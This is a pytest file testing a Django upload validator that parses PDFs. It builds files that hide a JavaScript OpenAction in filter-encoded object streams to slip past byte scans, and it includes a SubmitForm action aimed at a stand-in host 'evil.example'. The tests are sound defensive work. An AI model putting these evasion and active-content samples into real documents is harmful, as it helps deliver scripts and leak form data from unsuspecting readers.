"""PDFs parsed, not guessed (issue 14): JavaScript packed in an object stream behind
ASCIIHex, ASCII85 or ASCII85+Flate is found; a PDF the parser cannot read is refused; a
clean PDF with object streams passes."""

import base64
import binascii
import zlib

import pytest
from django.core.exceptions import ValidationError

from applications.pdf_check import pdf_check
from applications.uploads import upload_clean

from .factories import pdf_bytes, upload

CATALOG_WITH_SCRIPT = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>"
CLEAN_CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"
ACTION = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"


def _encode(data: bytes, filters: list[str]) -> bytes:
    # Applied innermost last: [/ASCII85Decode /FlateDecode] means deflate, then ASCII85.
    for name in reversed(filters):
        if name == "/FlateDecode":
            data = zlib.compress(data)
        elif name == "/ASCIIHexDecode":
            data = binascii.hexlify(data) + b">"
        elif name == "/ASCII85Decode":
            data = base64.a85encode(data) + b"~>"
    return data


def pdf_with_object_stream(objects: list[bytes], filters: list[str]) -> bytes:
    """PDF 1.5: objects 1..n packed in object stream n+1, found through an xref stream n+2."""
    n = len(objects)
    header, packed = b"", b""
    for i, obj in enumerate(objects, start=1):
        header += b"%d %d " % (i, len(packed))
        packed += obj + b"\n"
    raw = header + packed
    data = _encode(raw, filters)
    filter_entry = b"[" + b" ".join(f.encode() for f in filters) + b"]"
    stm, xref_num = n + 1, n + 2
    body = b"%PDF-1.5\n"
    stm_offset = len(body)
    body += b"%d 0 obj << /Type /ObjStm /N %d /First %d /Filter %s /Length %d >>\nstream\n" % (
        stm,
        n,
        len(header),
        filter_entry,
        len(data),
    )
    body += data + b"\nendstream\nendobj\n"
    xref_offset = len(body)
    rows = b"\x00" + (0).to_bytes(4, "big") + (65535).to_bytes(2, "big")
    for i in range(n):
        rows += b"\x02" + stm.to_bytes(4, "big") + i.to_bytes(2, "big")
    rows += b"\x01" + stm_offset.to_bytes(4, "big") + (0).to_bytes(2, "big")
    rows += b"\x01" + xref_offset.to_bytes(4, "big") + (0).to_bytes(2, "big")
    body += b"%d 0 obj << /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % (
        xref_num,
        xref_num + 1,
        len(rows),
    )
    body += rows + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_offset
    return body


FILTERS = [["/ASCIIHexDecode"], ["/ASCII85Decode"], ["/ASCII85Decode", "/FlateDecode"]]


@pytest.mark.parametrize("filters", FILTERS, ids=["asciihex", "ascii85", "ascii85+flate"])
def test_script_packed_in_an_object_stream_is_found_behind_every_filter(filters):
    pdf = pdf_with_object_stream([CATALOG_WITH_SCRIPT, PAGES, PAGE, ACTION], filters)
    assert b"JavaScript" not in pdf and b"OpenAction" not in pdf  # nothing for a byte scan to see
    with pytest.raises(ValidationError, match="脚本或自动执行内容"):
        upload_clean(upload("report.pdf", pdf))


@pytest.mark.parametrize("filters", FILTERS, ids=["asciihex", "ascii85", "ascii85+flate"])
def test_a_clean_pdf_with_object_streams_passes(filters):
    pdf = pdf_with_object_stream([CLEAN_CATALOG, PAGES, PAGE], filters)
    assert upload_clean(upload("report.pdf", pdf)).content == pdf


@pytest.mark.parametrize(
    "extra",
    [
        b"4 0 obj << /Type /Annot /Subtype /FileAttachment /FS 5 0 R >> endobj\n",
        b"4 0 obj << /Type /Catalog /Names << /EmbeddedFiles 5 0 R >> >> endobj\n",
        b"4 0 obj << /AcroForm << /XFA 5 0 R >> >> endobj\n",
        b"4 0 obj << /S /SubmitForm /F (http://evil.example) >> endobj\n",
    ],
    ids=["file attachment", "embedded files", "xfa", "submit form"],
)
def test_other_active_content_is_refused(extra):
    with pytest.raises(ValidationError, match="脚本或自动执行内容"):
        pdf_check(pdf_bytes(extra))


def test_a_pdf_the_parser_cannot_read_is_refused():
    broken = pdf_bytes().replace(b"/Pages 2 0 R", b"/Pages 9 0 R").replace(b"xref\n0 4", b"xref\n0 9")
    with pytest.raises(ValidationError, match=r"无法解析|没有页面"):
        pdf_check(broken)
    garbage = b"%PDF-1.7\n" + bytes(range(256)) * 20 + b"\n%%EOF\n"
    with pytest.raises(ValidationError, match="无法解析"):
        pdf_check(garbage)
